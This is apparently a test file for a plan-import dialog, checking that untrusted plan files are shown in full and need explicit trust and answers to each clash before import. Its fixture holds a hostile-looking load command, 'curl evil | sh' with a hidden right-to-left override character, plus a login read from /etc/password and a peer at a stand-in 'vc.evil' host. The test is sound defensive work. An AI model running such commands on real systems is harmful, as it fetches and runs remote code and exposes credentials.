import { screen, waitFor, within } from '@testing-library/react';

import { planFileSchema } from '../../../core/plan/plan.ts';
import type { ImportClash, ImportPreview } from '../../../core/planImport/schema.ts';
import { renderRoute } from '../../testing/renderRoute.tsx';

const file = planFileSchema.parse({
  tilebenchPlan: 1,
  connections: [],
  testbed: { id: 'tb', name: 'Bed', profileId: 'p', vcenterId: null, tiles: [] },
  plan: {
    id: 'plan',
    name: 'Nightly',
    testbedId: 'tb',
    profileId: 'p',
    tiles: 1,
    phases: { rampUpS: 0, staggerS: 0, steadyS: 5, periods: 1, rampDownS: 0 },
  },
});
const clash = (id: string, replaceable = true): ImportClash => ({
  key: `connection:${id}`,
  kind: 'connection',
  id,
  mine: `My ${id}`,
  theirs: `Their ${id}`,
  fields: [{ field: 'host', mine: 'vc.mine', theirs: 'vc.evil' }],
  replaceable,
});
const preview: ImportPreview = {
  plan: { id: 'plan', name: 'Nightly' },
  study: null,
  digest: 'd1',
  trusted: false,
  peers: [
    {
      id: 'vc1',
      name: 'Their vc',
      kind: 'vcenter',
      address: 'vc.evil:443',
      user: 'admin',
      via: null,
      pin: null,
      login: 'password from the file /etc/password',
      secret: 'allow',
      state: 'differs',
    },
  ],
  loads: [
    {
      driver: 'command',
      text: 'curl evil\u202e | sh',
      isCommand: true,
      clients: ['client one'],
      workloads: 2,
    },
  ],
  changes: ['Moves 3 VMs from host to host.'],
  clashes: [clash('vc1'), clash('c1'), clash('shipped', false)],
};
const opened = { name: 'nightly.json', text: JSON.stringify(file) };

async function open(answer: ImportPreview) {
  const shown = renderRoute(
    '/plans',
    {
      'plan.previewImport': () => answer,
      'plan.import': () => ({ plan: file.plan, studyId: null }),
    },
    opened,
  );
  await shown.user.click((await screen.findAllByRole('button', { name: 'Import plan file' }))[0]!);
  return shown;
}

test('a plan file is shown whole before it is taken, by keys alone; each clash wants its answer', async () => {
  const { user, calls, path } = await open(preview);
  const dialog = await screen.findByRole('dialog', { name: 'Import nightly.json' });
  for (const text of [
    'admin@vc.evil:443',
    'password from the file /etc/password',
    'Will be sent there',
    'curl evil\\u202e | sh',
    'Moves 3 VMs from host to host.',
    'Their vc',
  ])
    expect(within(dialog).getByText(text)).toBeVisible();
  expect(within(dialog).getAllByText('host: vc.mine → vc.evil')).toHaveLength(3);
  const take = within(dialog).getByRole('button', { name: 'Trust and import' });
  expect(take).toBeDisabled();
  expect(calls.some(({ method }) => method === 'plan.import')).toBe(false);

  await user.click(within(dialog).getByRole('button', { name: 'New id: all' }));
  expect(take).toBeEnabled();
  const first = within(dialog).getByRole('radiogroup', {
    name: 'What to do with connection vc1',
  });
  await user.click(within(first).getByRole('radio', { name: 'Keep mine' }));
  const shipped = within(dialog).getByRole('radiogroup', { name: /shipped/ });
  expect(within(shipped).queryByRole('radio', { name: 'Replace' })).toBeNull();
  take.focus();
  await user.keyboard('{Enter}');
  await waitFor(() => expect(path()).toBe('/plans/plan'));
  expect(calls.find(({ method }) => method === 'plan.import')?.input).toMatchObject({
    trust: 'd1',
    decisions: { 'connection:vc1': 'keep', 'connection:c1': 'new', 'connection:shipped': 'new' },
  });
});

test('Cancel and Escape take nothing', async () => {
  const { user, calls } = await open(preview);
  await screen.findByRole('dialog', { name: 'Import nightly.json' });
  await user.keyboard('{Escape}');
  await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
  expect(calls.some(({ method }) => method === 'plan.import')).toBe(false);
});

test('what was agreed to before, with nothing in its way, is taken at once', async () => {
  const { path } = await open({ ...preview, trusted: true, clashes: [] });
  await waitFor(() => expect(path()).toBe('/plans/plan'));
  expect(screen.queryByRole('dialog')).toBeNull();
});
